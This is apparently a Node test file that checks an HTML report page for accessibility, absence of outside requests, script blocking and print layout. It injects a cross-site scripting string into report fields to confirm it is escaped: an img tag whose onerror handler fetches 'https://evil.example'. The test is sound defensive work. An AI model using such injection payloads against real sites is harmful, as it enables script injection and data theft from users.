import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import { pathToFileURL } from "node:url";
import { reportSections } from "@sightline/contract";
import { startBrowser } from "@sightline/test-kit/browser.ts";
import { corpusAnswer, corpusWorkspace } from "@sightline/test-kit/sample-corpus.ts";
import { sharedService } from "@sightline/test-kit/shared-sample.ts";
import type { AskedReport } from "./asked-report.ts";
import { writeReport } from "./write-report.ts";

const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
/** One pixel. */
const logo =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGA" +
  "WjR9awAAAABJRU5ErkJggg==";
const hostile = `<img src=x onerror="fetch('https://evil.example')">\u202e`.repeat(3);

const asked: AskedReport = {
  title: "Acme in answers",
  subtitle: "February",
  sections: reportSections,
  startDate: "2026-02-01",
  endDate: "2026-02-28",
  compareWith: { startDate: "2026-01-01", endDate: "2026-01-31" },
  filters: {},
  showsEvidence: true,
  language: "en",
  logo,
  colour: "#ffe600",
  note: hostile,
  madeAt: Date.parse("2026-03-02T06:00:00Z"),
};

/** A file with the page, of an account with long, hostile names and 60 prompts. */
async function writtenPage(t: TestContext, changes: Partial<AskedReport>): Promise<string> {
  const service = await sharedService();
  const prompts = Array.from({ length: 60 }, (_, number) => ({
    id: `22222222-1111-4111-8111-${String(number).padStart(12, "0")}`,
    text: `What is the best anvil of kind ${number}${number === 7 ? ` ${hostile}` : ""}?`,
  }));
  const competitors = ["Globex", "Initech", `Sup${"er".repeat(45)}corp`].map((name) => ({ name }));
  const accountId = await service.apply({
    ...corpusWorkspace,
    account: { name: "Reported in a browser" },
    competitors,
    prompts,
    notes: [{ date: "2026-02-11", text: `Launch ${hostile}` }],
  });
  const answers = Array.from({ length: 900 }, (_, number) => {
    const prompt = prompts[number % prompts.length];
    return { ...corpusAnswer(number), promptId: prompt?.id ?? "" };
  });
  await service.import(accountId, answers);
  const { signal } = new AbortController();
  const { html } = await writeReport(service.services, accountId, { ...asked, ...changes }, signal);
  assert.ok(Buffer.byteLength(html) <= 300_000);
  const folder = mkdtempSync(join(tmpdir(), "report-"));
  t.after(() => rmSync(folder, { recursive: true }));
  const file = join(folder, "report.html");
  writeFileSync(file, html);
  return pathToFileURL(file).href;
}

for (const language of ["en", "de"] as const) {
  test(`a page can be read by anybody, and loads nothing (${language})`, async (t) => {
    const address = await writtenPage(t, { language });
    const browser = await startBrowser(t, undefined, "the page of a report");
    if (browser === null) return;
    for (const [colorScheme, width] of [
      ["light", 1_200],
      ["dark", 1_200],
      ["light", 390],
    ] as const) {
      const viewport = { width, height: 850 };
      // axe is a script, which the page's policy forbids.
      const context = await browser.newContext({ viewport, colorScheme, bypassCSP: true });
      const page = await context.newPage();
      const [requests, faults]: [string[], string[]] = [[], []];
      page.on("request", (request) => requests.push(request.url()));
      page.on("console", (message) => faults.push(message.text()));
      page.on("pageerror", (error) => faults.push(error.message));
      await page.goto(address);
      await page.evaluate(axe);
      const violations = await page.evaluate<readonly string[]>(
        `axe.run({ resultTypes: ["violations"] }).then(({ violations }) => violations.flatMap(
          ({ id, nodes }) => nodes.map(({ target, failureSummary }) => id + " " + target + " " +
          failureSummary)))`,
      );
      assert.deepEqual(violations, [], `${colorScheme} at ${width}`);
      assert.deepEqual(
        requests.filter((url) => !url.startsWith("data:")),
        [address],
      );
      assert.deepEqual(faults, []);
      const isWide = await page.evaluate(
        "document.documentElement.scrollWidth > document.documentElement.clientWidth",
      );
      assert.equal(isWide, false, `the page scrolls sideways at ${width}`);
    }
  });
}

test("the page's own policy stops scripts and requests", async (t) => {
  const address = await writtenPage(t, {});
  const browser = await startBrowser(t, undefined, "the page of a report");
  if (browser === null) return;
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(address);
  await assert.rejects(page.addScriptTag({ content: "window.ran = true" }));
  assert.equal(await page.evaluate("window.ran"), undefined);
});

test("a page is printed on two to six sheets, and no row is torn", async (t) => {
  const address = await writtenPage(t, {});
  const browser = await startBrowser(t, undefined, "the page of a report");
  if (browser === null) return;
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(address);
  for (const format of ["A4", "Letter"] as const) {
    const pdf = (await page.pdf({ format })).toString("latin1");
    const sheets = pdf.match(/\/Type\s*\/Page\b(?!s)/g)?.length ?? 0;
    assert.ok(sheets >= 2 && sheets <= 6, `${sheets} sheets of ${format}`);
  }
  await page.emulateMedia({ media: "print" });
  const torn = await page.evaluate<readonly string[]>(
    `[...document.querySelectorAll("tr")].filter((row) =>
      getComputedStyle(row).breakInside !== "avoid").map((row) => row.outerHTML.slice(0, 90))`,
  );
  assert.deepEqual(torn, []);
  // What is wider than the paper would be cut off: 182 mm between the margins of A4.
  await page.setViewportSize({ width: 688, height: 900 });
  const wide = await page.evaluate<readonly string[]>(
    `[...document.querySelectorAll("body *")].filter((each) => each.checkVisibility() &&
      each.closest("caption") === null && each.getBoundingClientRect().right > 688.5)
      .map((each) => each.outerHTML.slice(0, 90))`,
  );
  assert.deepEqual(wide, []);
});
